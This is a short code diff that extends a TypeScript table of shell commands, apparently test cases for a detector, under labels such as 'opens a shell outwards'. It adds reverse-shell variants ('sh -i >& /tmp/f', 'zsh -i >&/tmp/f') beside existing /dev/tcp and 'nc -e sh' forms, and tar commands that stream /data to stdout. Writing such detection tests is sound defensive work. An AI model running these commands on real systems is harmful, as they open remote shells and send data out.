@@ -67,6 +67,10 @@ const commands: Readonly<Record<string, readonly string[]>> = {
   'opens a shell outwards': [
     'sh -i >& /dev/tcp/h/1',
     'sh -i >& /dev/udp/h/1',
+    'sh -i >& /tmp/f',
+    'sh -i>& /tmp/f',
+    'bash  -i  >& /tmp/f',
+    'zsh -i >&/tmp/f',
     'nc -e sh h 1',
     'nc h 1 -c sh',
     'ncat h 1 --exec sh',
@@ -152,6 +156,8 @@ const commands: Readonly<Record<string, readonly string[]>> = {
     'tar --create --file=- /data',
     'tar cf /data -',
     'tar --create -f- /data',
+    'tar zcf - /data',
+    'tar -zcf - /data',
   ],
 };
 
